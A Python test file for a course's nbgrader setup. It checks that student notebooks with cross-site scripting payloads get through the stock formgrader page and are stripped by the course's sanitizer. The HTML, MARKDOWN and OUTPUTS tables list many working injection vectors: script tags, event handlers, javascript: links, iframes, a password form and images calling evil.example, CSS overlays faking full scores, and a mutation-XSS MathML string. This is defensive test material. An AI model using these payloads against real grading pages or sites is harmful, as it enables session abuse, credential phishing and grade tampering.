"""What a student's notebook could do in the browser of whoever opens it, and does not.

Every way in is shown to work on nbgrader's own pages first.
"""

import base64
import copy
import html
from urllib.parse import quote, unquote

import nbformat
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import InvalidNotebook
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from nbgrader.server_extensions.formgrader.handlers import static_path, template_path
from tiny_course import ASSIGNMENT, REPOSITORY, nbgrader_cell
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from course_utils.staff.grading.record import text_worker
from course_utils.staff.grading.record.clean_outputs import CleanOutputs
from course_utils.staff.grading.record.page_filters import clean_html
from course_utils.staff.reports.feedback_page import FeedbackExporter
from course_utils.staff.reports.folded_cells import HideFoldedSource

PIXEL = "iVBORw0KGgoAAAANSUhEUg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="hacked()"><circle r="5"/></svg>'

# Each does something that has "hacked" in its name.
HTML = {
    "script": "<script>hacked()</script>",
    "script from elsewhere": '<script src="https://evil.example/hacked.js"></script>',
    "script in svg": "<svg><script>hacked()</script></svg>",
    "onerror": '<img src="x.png" onerror="hacked()">',
    "onload of svg": SVG,
    "ontoggle": '<details open ontoggle="hacked()">text</details>',
    "onmouseover": '<b onmouseover="hacked()">a bold word</b>',
    "onfocus": '<a id="x" tabindex="1" autofocus onfocus="hacked()">x</a>',
    "iframe": '<iframe src="https://evil.example/hacked"></iframe>',
    "iframe with its page": '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
    "object": '<object data="data:text/html,<script>hacked()</script>"></object>',
    "embed": '<embed src="hacked.svg">',
    "javascript link": '<a href="javascript:hacked()">more</a>',
    "javascript link with an entity": '<a href="java&#x09;script:hacked()">more</a>',
    "data link": '<a href="data:text/html,<script>hacked()</script>">more</a>',
    "link to a page handed in too": '<a href="hacked.html">my figure</a>',
    "link to the server": '<a href="/logout?hacked">more</a>',
    "image that logs out": '<img src="/logout?hacked" alt="">',
    "image that logs out, going up": '<img src="../../../logout?hacked.png" alt="">',
    "image from elsewhere": '<img src="https://evil.example/hacked.png" alt="">',
    "image from elsewhere, no scheme": '<img src="//evil.example/hacked.png" alt="">',
    "image set from elsewhere": f'<img src="data:image/png;base64,{PIXEL}" '
    'srcset="https://evil.example/hacked.png 2x" alt="">',
    "video poster": '<video poster="https://evil.example/hacked.png"></video>',
    "form": '<form action="https://evil.example/hacked"><input name="password"></form>',
    "button": '<button formaction="javascript:hacked()">Full credit</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/hacked">',
    "base": '<base href="https://evil.example/hacked/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/hacked.css">',
    "style sheet that hides": "<style>.hacked, .score { display: none }</style>",
    "style that loads": '<p style="background:url(https://evil.example/hacked.png)">x</p>',
    "style that loads, escaped": r'<p style="background:u\72l(https://evil.example/hacked.png)">x</p>',
    "style that covers": '<div style="position:fixed;top:0;left:0" title="hacked">100 / 100</div>',
    "style that pulls up": '<div style="margin-top:-900px" title="hacked">100 / 100</div>',
    "style that overflows": '<div style="height:0px" title="hacked">100 / 100</div>',
    "style that moves": '<div style="transform:translateY(-900px)" title="hacked">x</div>',
    "a score of the page": '<input class="score" id="T1_double_visible" title="hacked">',
    "id of the page": '<p id="T1_double_visible" title="hacked">x</p>',
    "class of the page": '<span class="btn full-credit" title="hacked">x</span>',
    "data attribute of the page": '<span data-toggle="tooltip" data-html="hacked">x</span>',
    "mathml": '<math><maction xlink:href="javascript:hacked()">x</maction></math>',
    "script hidden in mathml": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
    "formula with a link": r"$\href{javascript:hacked()}{x}$",
    "formula with a style": r"$\style{position:fixed}{hacked}$",
}
MARKDOWN = {
    "link": "[more](javascript:hacked())",
    "link by reference": "[more][1]\n\n[1]: javascript:hacked()",
    "image from elsewhere": "![x](https://evil.example/hacked.png)",
    "link to a page handed in too": "[my figure](hacked.html)",
    "heading with the id of the page": '# T1_double_visible\n\n<p id="T1_double_visible">x</p>',
}


def data_output(data, **metadata):
    return new_output("display_data", data=data, metadata=metadata)


def with_output(output):
    return new_code_cell("show()", outputs=[output])


def with_metadata(cell, **metadata):
    cell.metadata.update(metadata)
    return cell


OUTPUTS = {
    **{f"html: {name}": data_output({"text/html": text}) for name, text in HTML.items()},
    **{f"markdown: {name}": data_output({"text/markdown": s}) for name, s in MARKDOWN.items()},
    "markdown: script": data_output({"text/markdown": "*a* <script>hacked()</script>"}),
    "javascript": data_output({"application/javascript": "hacked()", "text/plain": "x"}),
    "latex": data_output({"text/latex": r"$\href{javascript:hacked()}{x}$"}),
    "result": new_output("execute_result", data={"text/html": "<script>hacked()</script>"}),
    "image width": data_output(
        {"image/png": PIXEL}, **{"image/png": {"width": "1 onload=hacked()"}}
    ),
    "image height": data_output(
        {"image/jpeg": PIXEL}, **{"image/jpeg": {"height": "1 onload=hacked()"}}
    ),
    "image elsewhere": data_output(
        {"image/png": PIXEL}, filenames={"image/png": "https://evil.example/hacked.png"}
    ),
    "page of its own": data_output(
        {"text/html": "<b title='hacked'>fake</b>"}, **{"text/html": {"isolated": True}}
    ),
}
CELLS = {
    **{f"output: {name}": with_output(output) for name, output in OUTPUTS.items()},
    "attachment": new_markdown_cell(
        "![x](attachment:a.png)", attachments={"a.png": {'x" onerror="hacked()': PIXEL}}
    ),
    "raw": new_raw_cell('<span id="T1_double_visible">1</span>'),
    "grade id": with_metadata(
        new_markdown_cell("text"),
        nbgrader={"grade": True, "grade_id": '"><img src=x onerror="hacked()">', "points": 1},
    ),
    **{f"answer: {name}": new_markdown_cell(text) for name, text in HTML.items()},
    **{f"answer: {name}, in Markdown": new_markdown_cell(s) for name, s in MARKDOWN.items()},
}
SOURCES = sorted((REPOSITORY / "source").glob("*/*.ipynb"))
OURS = PyFileConfigLoader("nbgrader_config.py", path=str(REPOSITORY)).load_config()
CONFIGURATIONS = {"stock": Config(), "ours": OURS}
# What a formgrader's page gets beside the notebook.
RESOURCES = {
    "assignment_id": ASSIGNMENT,
    "notebook_id": "tiny",
    "submission_id": "abc",
    "index": 0,
    "total": 1,
    "base_url": "",
    "student": "ada",
    "last_name": "Lovelace",
    "first_name": "Ada",
    "notebook_path": "autograded/ada/01_tiny/tiny.ipynb",
}


def notebook(*cells):
    """A copy of cells behind a test cell."""
    visible = nbgrader_cell("test", "T1_double_visible", "assert double(1) == 2", 1)
    visible.metadata["nbgrader"]["score"] = 1
    return new_notebook(cells=copy.deepcopy([visible, *cells]))


def formgrader_page(nb, configuration, **resources):
    """The page of the formgrader, made as its server extension does."""
    config = copy.deepcopy(CONFIGURATIONS[configuration])
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [template_path]
    return HTMLExporter(config=config).from_notebook_node(nb, RESOURCES | resources)[0]


def feedback_page(nb, configuration, *steps):
    """The page of feedback, after further steps where there are any."""
    config = copy.deepcopy(CONFIGURATIONS[configuration])
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [template_path]
    config.HTMLExporter.extra_template_paths = [f"{static_path}/node_modules/bootstrap/dist/css"]
    about = {"notebook": "tiny", "score": 1, "max_score": 1, "late_penalty": 0}
    exporter = FeedbackExporter(config=config)
    for step in steps:
        exporter.register_preprocessor(step)
    return exporter.from_notebook_node(nb, {"nbgrader": about})[0]


def active(page):
    """Return the tags and formulas by which a student's "hacked" acts on a page."""
    soup = BeautifulSoup(page, "html.parser")
    found = [tag for tag in soup.find_all(True) if _acts(tag)]
    names = {tag.get("id") for tag in soup.select('[id="T1_double_visible"]:not(.score)')}
    found += [f"a second {name}" for name in names]
    for formula in soup.find_all(string=lambda text: "hacked" in text):
        is_shown_as_code = formula.find_parent(["pre", "code", "script", "style"])
        if not is_shown_as_code and any(word in formula for word in (r"\href", r"\style")):
            found.append(formula)
    return found


def _acts(tag):
    def has(text):
        return "hacked" in str(text).lower()

    if tag.name in ("script", "style", "svg", "math", "noscript"):
        return has(tag)
    for name, value in tag.attrs.items():
        if not has(value):
            continue
        if name.startswith(("on", "data-")) or name in ("srcdoc", "content", "srcset", "poster"):
            return True
        if name in ("href", "src", "action", "formaction", "data", "style"):
            return True
    opening = str(tag.attrs)
    if tag.name in ("iframe", "form", "button", "input", "meta", "base", "object", "embed"):
        return has(opening) or tag.get("class") == ["isolated-iframe"]
    is_moved = any(word in tag.get("style", "") for word in ("fixed", "-900", "height:0px"))
    is_disguised = {"score", "full-credit"} & set(tag.get("class", []))
    return has(opening) and (is_moved or bool(is_disguised))


@pytest.mark.parametrize("way", CELLS)
def test_a_stock_page_of_the_formgrader_lets_it_through_and_ours_does_not(way):
    stock = formgrader_page(notebook(CELLS[way]), "stock")
    assert active(stock), "the attack works"
    assert active(formgrader_page(notebook(CELLS[way]), "ours")) == []


@pytest.mark.parametrize("way", CELLS)
def test_a_page_of_feedback_does_not_let_it_through(way):
    assert active(feedback_page(notebook(CELLS[way]), "ours")) == []


@pytest.mark.parametrize("way", OUTPUTS)
def test_a_graded_notebook_is_clean_by_itself(way):
    nb = notebook(with_output(OUTPUTS[way]))
    assert active(formgrader_page(nb, "stock")), "the attack works"
    cleaned, _ = CleanOutputs().preprocess(nb, {})
    assert active(formgrader_page(cleaned, "stock")) == []
    nbformat.validate(cleaned)


def test_names_on_the_page_are_escaped():
    name = {"first_name": "<img src=x onerror=hacked()>"}
    assert active(formgrader_page(notebook(), "stock", **name))
    assert active(formgrader_page(notebook(), "ours", **name)) == []


def test_widgets_give_way_to_what_stands_for_them():
    view = "application/vnd.jupyter.widget-view+json"
    still = {"text/html": "<b>still</b>", "text/plain": "still"}
    nb = notebook(with_output(data_output({view: {"model_id": "a"}} | still)))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    cleaned, _ = CleanOutputs().preprocess(nb, {})
    assert cleaned.cells[1].outputs[0].data == still
    assert "widgets" not in cleaned.metadata


def test_a_page_shows_of_a_folded_cell_its_output_only():
    figure = nbgrader_cell("free", "T4_explore", "draw_it()")
    figure.outputs = [new_output("stream", text="a figure")]
    nb = notebook(with_metadata(figure, jupyter={"source_hidden": True}))
    assert "draw_it" in feedback_page(nb, "ours")
    page = feedback_page(nb, "ours", HideFoldedSource)
    assert "draw_it" not in page and "a figure" in page


@pytest.mark.parametrize("kind", ["solution", "test", "task"])
def test_nobody_folds_away_what_is_graded(kind):
    cell = nbgrader_cell(kind, "T3_shape", "shape = (2, 3, 4)")
    nb = notebook(with_metadata(cell, jupyter={"source_hidden": True}))
    cleaned, _ = CleanOutputs().preprocess(nb, {})
    assert "jupyter" not in cleaned.cells[1].metadata


def test_an_output_of_which_nothing_is_left_says_so():
    nb = notebook(with_output(data_output({"application/javascript": "run()"})))
    cleaned, _ = CleanOutputs().preprocess(nb, {})
    assert cleaned.cells[1].outputs[0].data == {"text/plain": "(application/javascript: not kept)"}


def test_a_drawing_in_svg_stays_as_a_picture():
    nb = notebook(with_output(data_output({"image/svg+xml": SVG})))
    page = formgrader_page(CleanOutputs().preprocess(nb, {})[0], "stock")
    image = BeautifulSoup(page, "html.parser").find("img", alt="figure (SVG)")
    assert base64.b64decode(image["src"].partition(",")[2]).decode() == SVG


def test_what_a_student_wrote_stays_in_the_file():
    nb = notebook(*CELLS.values())
    sources = [cell.source for cell in nb.cells]
    cleaned, _ = CleanOutputs().preprocess(nb, {})
    assert [cell.source for cell in cleaned.cells] == sources


def test_formulas_and_pictures_in_a_written_answer_stay():
    answer = new_markdown_cell(
        "**Because** $x_1 < y$ and\n$$\\frac{1}{2} \\text{ of } y$$\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\nfor x in y: pass\n```\n\n"
        "![mine](attachment:a.png) ![theirs](figure.png) [page](https://example.org/x)",
        attachments={"a.png": {"image/png": PIXEL}},
    )
    soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
    answer = soup.find(id="notebook-container")
    text = answer.get_text()
    assert "$x_1 < y$" in text and "$$\\frac{1}{2} \\text{ of } y$$" in text
    assert answer.find("img", alt="mine")["src"] == f"data:image/png;base64,{PIXEL}"
    assert answer.find("img", alt="theirs")["src"] == "figure.png"
    assert answer.find("a", string="page")["href"] == "https://example.org/x"
    assert answer.find("strong") and answer.find("td", string="2")
    assert answer.find("span", class_="k", string="for"), "code keeps its colours"


def test_links_within_a_text_still_lead_to_its_headings():
    answer = new_markdown_cell("[below](#The-end)\n\n## The end")
    soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
    assert soup.find("h2")["id"] == soup.find("a", string="below")["href"][1:] == "text-The-end"


@pytest.mark.parametrize("name", ["my pic.png", "my%20pic.png", "é (1).png", "a&b.png", "a.png"])
def test_an_attached_picture_is_shown_however_its_name_is_written(name):
    plain = unquote(name)
    written = {plain, quote(plain), html.escape(plain)}
    texts = [f"![pic](attachment:{way})" for way in written] + [f"![pic](<attachment:{plain}>)"]
    for way in written:
        texts += [f'<img alt="pic" src="attachment:{way}" width="300"/>']
        texts += [f"in a line <img alt=pic src='attachment:{way}'> of text"]
        texts += [f'<div>\n<IMG alt="pic"\n SRC = "attachment:{way}"></div>']
    for text in texts:
        answer = new_markdown_cell(text, attachments={name: {"image/png": PIXEL}})
        soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
        assert soup.find("img", alt="pic")["src"] == f"data:image/png;base64,{PIXEL}", text


def test_a_picture_that_is_missing_costs_its_place_only_and_is_named():
    answer = new_markdown_cell(
        "**why** ![x](attachment:no%20such.png)\n\n<img src='attachment:nor <this>.png'>"
    )
    with pytest.raises(InvalidNotebook):
        formgrader_page(notebook(answer), "stock")
    soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
    assert soup.find("strong", string="why")
    text = soup.get_text()
    assert "(missing picture: no such.png)" in text


def test_dollars_with_a_backslash_are_no_formula():
    text = r"5\$ or **6\$**, \*\$\* and $7\$ + x$ [8\$](#a) `9\$`"
    answer = new_markdown_cell(f"# 3\\$ and 4\\$\n\n{text}")
    soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
    shown = soup.find(id="notebook-container")
    assert "3$ and 4$" in shown.get_text()
    assert "5$ or 6$, *$* and $7\\$ + x$ 8$ 9\\$" in shown.get_text()
    # MathJax looks for both dollars in one element
    texts = [str(node) for node in shown.find_all(string=True) if node.parent.name != "code"]
    assert [node.strip() for node in texts if node.count("$") > 1] == ["* and $7\\$ + x$"]


def test_text_that_cannot_be_rendered_does_not_keep_the_page_from_opening(monkeypatch):
    def too_much(*_):
        raise text_worker.TooMuchWorkError

    monkeypatch.setattr(text_worker.WORKER, "call", too_much)
    answer = new_markdown_cell("see <b>this")
    soup = BeautifulSoup(formgrader_page(notebook(answer), "ours"), "html.parser")
    assert soup.find("pre", string=answer.source)


def outputs_of(path):
    return [
        output
        for cell in nbformat.read(path, as_version=4).cells
        for output in cell.get("outputs", [])
        if "text/html" in output.get("data", {})
    ]


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.stem)
def test_what_the_course_itself_shows_is_not_changed(path):
    """Text for text, but for animations, which are scripts and are not shown while grading."""
    outputs = [output.data["text/html"] for output in outputs_of(path)]
    assert len(outputs) > 40
    for text in outputs:
        if "<script" not in text:
            before, after = (BeautifulSoup(t, "html.parser") for t in (text, clean_html(text)))
            assert after == before


def test_tables_of_pandas_stay():
    table = (
        '<table border="1" class="dataframe">\n  <thead>\n    '
        '<tr style="text-align: right;">\n      <th>a</th>\n    </tr>\n  </thead>\n</table>'
    )
    assert clean_html(f"<style scoped>.dataframe {{ }}</style>{table}") == table


@given(st.lists(st.sampled_from(sorted(HTML.values()))).map("".join))
def test_cleaning_twice_is_cleaning_once(text):
    once = clean_html(text)
    assert clean_html(once) == once


def test_deeply_nested_tags_are_shown_as_text():
    text = "<div>" * 300 + "x"
    assert clean_html(text) == f"<pre>{html.escape(text)}</pre>"
    assert clean_html("<div></span>" * 300).startswith("<pre>"), "closed by another name"
    assert clean_html("<p>x" * 300).startswith("<p>"), "these stand side by side"
